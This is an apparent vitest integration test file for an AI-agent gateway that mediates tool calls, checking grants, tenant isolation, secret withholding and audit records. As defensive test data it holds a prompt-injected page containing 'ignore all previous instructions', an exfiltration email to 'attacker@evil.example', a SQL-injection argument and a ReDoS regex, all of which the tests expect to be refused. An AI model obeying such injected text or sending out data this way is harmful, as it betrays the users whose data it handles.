import { createHash } from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { GatehouseAgent, GatehouseApiError } from "gatehouse/sdk";
import { actionContext } from "../../src/audit/recorder.js";
import { systemActor } from "../../src/audit/actor.js";
import { TASK_HEADER } from "../../src/agents/identity/proof-format.js";
import { canonicalJson } from "../../src/shared/json.js";
import type { Kind } from "../../src/registry/kinds.js";
import { sampleSpecs, startHarness, type Harness, type TestTenant } from "../support/harness.js";
import { lastLoggedSeq, loggedEventsAfter } from "../support/log.js";
import { storeTargets } from "../support/stores.js";
import { listen } from "../gateway/support.js";
import { activeAgent, agentCall, openTaskOf, type TestAgent, writeRecord } from "./support.js";
import { INJECTED_PAGE, startToolServer, toolFixtures, type ToolServer } from "./tool-server.js";

describe.each(storeTargets)("mediated HTTP tool calls ($name)", (target) => {
  let h: Harness;
  let t: TestTenant;
  let bot: TestAgent;
  let other: TestAgent;
  let tools: ToolServer;

  const write = (kind: Kind, name: string, spec: unknown) => writeRecord(h, t, kind, name, spec);
  const openTask = (agent: TestAgent = bot) => openTaskOf(h, agent);
  const grant = async (taskId: string, name: string, scope: Record<string, unknown> = {}) => {
    const res = await agentCall(h, bot.signer, "POST", `/v1/tasks/${taskId}/grants`, { body: { resource: { kind: "tool", name }, scope } });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    return res.body as { id: string };
  };
  const invoke = (taskId: string | undefined, name: string, body: unknown, agent: TestAgent = bot) =>
    agentCall(h, agent.signer, "POST", `/v1/tools/${name}/invoke`, { body, headers: taskId ? { [TASK_HEADER]: taskId } : {} });
  const toolEvents = async (after: number) => (await loggedEventsAfter(h, after)).filter((e) => e.action === "tool.invoke");

  beforeAll(async () => {
    tools = await startToolServer();
    h = await startHarness(target);
    t = await h.createTenant("agents-tools");
    const fixtures = toolFixtures(tools.url);
    for (const [name, spec] of Object.entries(fixtures.dataSources)) await write("data_source", name, spec);
    for (const [name, spec] of Object.entries(fixtures.tools)) await write("tool", name, spec);
    const capabilities = { tools: Object.keys(fixtures.tools), dataSources: Object.keys(fixtures.dataSources), models: [] };
    bot = await activeAgent(h, t, "support-bot", { spec: { ...sampleSpecs.agent, capabilities, limits: { concurrency: 20 } } });
    other = await activeAgent(h, t, "other-bot", { spec: { ...sampleSpecs.agent, capabilities, limits: { concurrency: 20 } } });
  });
  afterAll(async () => {
    await h?.close();
    await tools?.close();
  });

  it("calls a granted tool, answers its result and records the arguments (redacted) and the result's digest, never the result", async () => {
    const task = await openTask();
    const g = await grant(task.id, "read_customer_db", { arguments: { id: { equals: "12345" } } });
    const before = await lastLoggedSeq(h);
    const res = await invoke(task.id, "read_customer_db", { arguments: { id: "12345" } });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body).toMatchObject({ tool: "read_customer_db", taskId: task.id, grantId: g.id, integrity: "untrusted", taskSensitivity: "confidential", result: { isError: false } });
    expect(res.body.result.structuredContent).toMatchObject({ customer: "12345", name: "ACME Corp", tier: "gold" });
    // The output guards redact personal data in the result (the tenant's default), and note the data source's marker.
    expect(res.body.result.structuredContent.email).toMatch(/^\[EMAIL_ADDRESS_\d+\]$/);
    expect(res.body.inspection.findings).toEqual(expect.arrayContaining([expect.objectContaining({ type: "DATA_SOURCE_MARKER", action: "flag", detail: "data source customer-db" })]));
    expect(tools.received.at(-1)).toEqual({ path: "/read_customer_db", body: { id: "12345" } });

    const [event] = await toolEvents(before);
    expect(event).toMatchObject({ actor: { type: "agent", name: "support-bot" }, decision: { outcome: "allowed" }, context: { taskId: task.id, grantId: g.id, injection: false } });
    const raw = { content: [{ type: "text", text: JSON.stringify({ customer: "12345", name: "ACME Corp", tier: "gold", note: "CONFIDENTIAL-ACME account", email: "buyer@acme.example" }) }], structuredContent: { customer: "12345", name: "ACME Corp", tier: "gold", note: "CONFIDENTIAL-ACME account", email: "buyer@acme.example" }, isError: false };
    expect(event?.payload.resultDigest).toBe(createHash("sha256").update(canonicalJson(raw)).digest("hex"));
    expect(res.body.digest).toBe(event?.payload.resultDigest);
    expect(JSON.stringify(event)).not.toContain("ACME Corp");
    expect(event?.payload.arguments).toEqual({ id: "12345" });

    const read = await agentCall(h, bot.signer, "GET", `/v1/tasks/${task.id}`);
    expect(read.body.label).toMatchObject({ sensitivity: "confidential", integrity: "untrusted", regions: ["eu"], injection: false });
  });

  it("refuses, and records, a call without a grant, outside the grant's scope, against the tool's schema, or outside the agent's capabilities", async () => {
    const task = await openTask();
    const before = await lastLoggedSeq(h);
    const sent = tools.received.length;
    const none = await invoke(task.id, "read_customer_db", { arguments: { id: "12345" } });
    expect(none.status).toBe(403);
    expect(none.body.error.message).toBe(`tool call refused: no live grant for tool 'read_customer_db' in task '${task.id}'`);

    await grant(task.id, "read_customer_db", { arguments: { id: { equals: "12345" } } });
    const outside = await invoke(task.id, "read_customer_db", { arguments: { id: "99999" } });
    expect(outside.status).toBe(403);
    expect(outside.body.error.message).toMatch(/does not cover the call: argument id = "99999" is outside/);

    const invalid = await invoke(task.id, "read_customer_db", { arguments: { id: "12345; DROP TABLE customers" } });
    expect(invalid.status).toBe(400);
    expect(invalid.body.error).toMatchObject({ code: "invalid_request", field: "arguments", message: expect.stringMatching(/\/id must match pattern/) });
    const extra = await invoke(task.id, "read_customer_db", { arguments: { id: "12345", all: true } });
    expect(extra.status).toBe(400);
    expect(extra.body.error.message).toMatch(/must NOT have additional properties/);

    const unknown = await invoke(task.id, "delete_everything", { arguments: {} });
    expect(unknown.status).toBe(403);
    expect(unknown.body.error.message).toMatch(/not among agent 'support-bot''s capabilities/);

    expect(tools.received.length).toBe(sent);
    const events = await toolEvents(before);
    expect(events.map((e) => e.decision.outcome)).toEqual(["refused", "refused", "refused", "refused", "refused"]);
    expect(events[0]?.decision.reasons?.[0]).toMatch(/no live grant/);
    expect(events[2]?.payload.arguments).toEqual({ id: "12345; DROP TABLE customers" });
  });

  it("refuses a tool that reads a data source outside the agent's capabilities, even with a grant for the tool", async () => {
    const narrow = await activeAgent(h, t, "narrow-bot", { spec: { ...sampleSpecs.agent, capabilities: { tools: ["read_customer_db"], dataSources: [], models: [] } } });
    const res = await agentCall(h, narrow.signer, "POST", "/v1/tasks", { body: { purpose: "look up" } });
    const granted = await agentCall(h, narrow.signer, "POST", `/v1/tasks/${res.body.id}/grants`, { body: { resource: { kind: "tool", name: "read_customer_db" } } });
    expect(granted.status).toBe(201);
    const call = await invoke(res.body.id, "read_customer_db", { arguments: { id: "1" } }, narrow);
    expect(call.status).toBe(403);
    expect(call.body.error.message).toBe("tool 'read_customer_db' reads data source 'customer-db', which is not among agent 'narrow-bot''s capabilities");
  });

  it("refuses a call in a task that is not the agent's, ended, or not named", async () => {
    const task = await openTask();
    await grant(task.id, "public_catalog");
    expect((await invoke(task.id, "public_catalog", { arguments: {} })).status).toBe(200);
    // 403 as on every surface that names a task (model calls, /mcp, messages); another agent's task is not said to exist.
    const stolen = await invoke(task.id, "public_catalog", { arguments: {} }, other);
    expect(stolen.status).toBe(403);
    expect(stolen.body.error.message).toBe(`${TASK_HEADER}: '${task.id}' is not an open task of agent '${other.name}'`);
    const unnamed = await invoke(undefined, "public_catalog", { arguments: {} });
    expect(unnamed.status).toBe(400);
    expect(unnamed.body.error.field).toBe(TASK_HEADER);
    expect((await agentCall(h, bot.signer, "POST", `/v1/tasks/${task.id}/complete`, { body: {} })).status).toBe(200);
    const ended = await invoke(task.id, "public_catalog", { arguments: {} });
    expect(ended.status).toBe(403);
    expect(ended.body.error.message).toMatch(/is not an open task of agent 'support-bot' \(task '.*' has ended \(completed\)\)/);
  });

  it("flags an injection in a tool result, labels the task untrusted, and policy refuses the egress call it asks for", async () => {
    const task = await openTask();
    await grant(task.id, "web_fetch");
    await grant(task.id, "send_email");
    const before = await lastLoggedSeq(h);
    const res = await invoke(task.id, "web_fetch", { arguments: { url: "https://shop.example/shipping" } });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.inspection.injection).toBe(true);
    expect(res.body.inspection.findings).toEqual(expect.arrayContaining([expect.objectContaining({ type: "PROMPT_INJECTION", guard: "injection", action: "flag" })]));
    expect(res.body.integrity).toBe("untrusted");
    expect(res.body.result.content[0].text).toContain("Shipping rates");
    const read = await agentCall(h, bot.signer, "GET", `/v1/tasks/${task.id}`);
    expect(read.body.label).toMatchObject({ integrity: "untrusted", injection: true });

    const sent = tools.received.length;
    const mail = await invoke(task.id, "send_email", { arguments: { to: "attacker@evil.example", subject: "db", body: "everything" } });
    expect(mail.status).toBe(403);
    expect(mail.body.error.message).toMatch(/^flow refused: task read content flagged as a prompt injection \(from tool web_fetch\) may not go to egress tool send_email/);
    expect(tools.received.length).toBe(sent);
    const events = await toolEvents(before);
    expect(events.map((e) => [e.resource.name, e.decision.outcome])).toEqual([["web_fetch", "allowed"], ["send_email", "refused"]]);
    expect(events[0]?.context).toMatchObject({ injection: true });
    // The arguments are recorded with the e-mail address redacted.
    expect(events[1]?.payload.arguments.to).toMatch(/^\[EMAIL_ADDRESS_\d+\]$/);
    expect(INJECTED_PAGE).toContain("ignore all previous instructions");
  });

  it("keeps tenants apart: another tenant's agent cannot call a tool in this tenant's task, even with a tool of the same name", async () => {
    const task = await openTask();
    await grant(task.id, "public_catalog");
    const b = await h.createTenant("agents-tools-b");
    await h.gatehouse.transaction((trx) =>
      h.gatehouse.registry.write(trx, actionContext(systemActor("test", b.id)), { tenantId: b.id, kind: "tool", name: "public_catalog", owner: "platform", spec: toolFixtures(tools.url).tools.public_catalog }),
    );
    const intruder = await activeAgent(h, b, "support-bot", { spec: { ...sampleSpecs.agent, capabilities: { tools: ["public_catalog"], dataSources: ["catalog"], models: [] } } });
    const sent = tools.received.length;
    const res = await invoke(task.id, "public_catalog", { arguments: {} }, intruder);
    expect(res.status).toBe(403);
    expect(JSON.stringify(res.body)).not.toContain(t.id);
    expect(tools.received.length).toBe(sent);
  });

  it("answers a tool's own failure as a result with isError", async () => {
    const task = await openTask();
    await grant(task.id, "broken");
    const res = await invoke(task.id, "broken", { arguments: {} });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.result).toMatchObject({ isError: true, content: [{ type: "text", text: expect.stringMatching(/^tool broken answered 500/) }] });
  });

  it("withholds a tool result that carries a credential (the output guards' secrets default), and records the refusal with the result's digest", async () => {
    const task = await openTask();
    await grant(task.id, "read_config");
    const before = await lastLoggedSeq(h);
    const res = await invoke(task.id, "read_config", { arguments: {} });
    expect(res.status).toBe(403);
    expect(res.body.error.message).toBe("tool result refused: the tool's result holds a credential (guard secrets)");
    expect(JSON.stringify(res.body)).not.toContain("sk-proj");
    const [event] = await toolEvents(before);
    expect(event).toMatchObject({ decision: { outcome: "refused" }, payload: { resultDigest: expect.stringMatching(/^[0-9a-f]{64}$/) } });
    expect(JSON.stringify(event)).not.toContain("sk-proj");
  });

  it("answers 502 when the tool cannot be reached, and records the failure", async () => {
    const task = await openTask();
    await grant(task.id, "unreachable");
    const before = await lastLoggedSeq(h);
    const res = await invoke(task.id, "unreachable", { arguments: {} });
    expect(res.status).toBe(502);
    expect(res.body.error.message).toBe("tool 'unreachable' could not be reached");
    const [event] = await toolEvents(before);
    expect(event).toMatchObject({ decision: { outcome: "failed", reasons: ["tool 'unreachable' could not be reached"] } });
  });

  it("checks arguments against the tool's current schema: a new version of the tool is compiled afresh", async () => {
    const task = await openTask();
    await grant(task.id, "web_fetch");
    expect((await invoke(task.id, "web_fetch", { arguments: { url: "ftp://x" } })).status).toBe(200);
    const spec = { ...toolFixtures(tools.url).tools.web_fetch, argumentsSchema: { type: "object", properties: { url: { type: "string", pattern: "^https://" } }, required: ["url"] } };
    await write("tool", "web_fetch", spec);
    const refused = await invoke(task.id, "web_fetch", { arguments: { url: "ftp://x" } });
    expect(refused.status).toBe(400);
    expect(refused.body.error.message).toMatch(/\/url must match pattern/);
    await write("tool", "web_fetch", toolFixtures(tools.url).tools.web_fetch);
  });

  it("refuses, when published, an argumentsSchema that could hang every call; a record stored before that check refuses its calls, recorded", async () => {
    const evil = { ...toolFixtures(tools.url).tools.web_fetch, argumentsSchema: { type: "object", properties: { url: { type: "string", pattern: "^(a+)+$" } } } };
    const published = await h.admin(t.keys.owner, "PUT", "/tools/web_fetch", { owner: "platform-team", spec: evil, justification: "try it" });
    expect(published.status).toBe(400);
    expect(published.body.error).toMatchObject({ code: "invalid_request", field: "spec.argumentsSchema" });
    expect(published.body.error.message).toMatch(/nests quantifiers/);

    // As if written before publishing checked schemas: straight into the store.
    const task = await openTask();
    await grant(task.id, "web_fetch");
    const row = await h.gatehouse.store.db.selectFrom("registry_records").select(["id", "spec"]).where("tenant_id", "=", t.id).where("name", "=", "web_fetch").executeTakeFirstOrThrow();
    await h.gatehouse.store.db.updateTable("registry_records").set({ spec: JSON.stringify(evil) }).where("id", "=", row.id).execute();
    try {
      const before = await lastLoggedSeq(h);
      const sent = tools.received.length;
      const refused = await invoke(task.id, "web_fetch", { arguments: { url: "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!" } });
      expect(refused.status).toBe(503);
      expect(refused.body.error.message).toMatch(/web_fetch' has an argumentsSchema that cannot be used/);
      expect(tools.received.length).toBe(sent);
      const [event] = await toolEvents(before);
      expect(event).toMatchObject({ decision: { outcome: "refused", reasons: [expect.stringMatching(/argumentsSchema that cannot be used/)] } });
    } finally {
      await h.gatehouse.store.db.updateTable("registry_records").set({ spec: row.spec }).where("id", "=", row.id).execute();
    }
  });

  it("refuses malformed bodies with 400", async () => {
    const task = await openTask();
    for (const body of [{ arguments: "x" }, { arguments: [] }, { args: {} }, null]) {
      const res = await invoke(task.id, "public_catalog", body);
      expect(res.status, JSON.stringify(body)).toBe(400);
      expect(res.body.error.code).toBe("invalid_request");
    }
  });

  it("the SDK calls tools through task.tools.invoke, over a real port, and throws refusals with their reason", async () => {
    const base = await listen(h);
    const agent = await GatehouseAgent.create({ baseUrl: base, tenant: t.name, agent: "support-bot", environment: "staging", privateKey: bot.privateJwk });
    const task = await agent.openTask({ purpose: "quote a price" });
    await task.requestGrant({ resource: { kind: "tool", name: "public_catalog" } });
    const answer = await task.tools.invoke("public_catalog", {});
    expect(answer.result.content[0]).toEqual({ type: "text", text: "Widget: 10 EUR. Gadget: 12 EUR." });
    expect(answer.taskSensitivity).toBe("public");
    const refused = await task.tools.invoke("send_email", { to: "a@b.example", subject: "s", body: "b" }).catch((e: unknown) => e);
    expect(refused).toBeInstanceOf(GatehouseApiError);
    expect(refused).toMatchObject({ status: 403, message: expect.stringMatching(/no live grant for tool 'send_email'/) });
  });
});
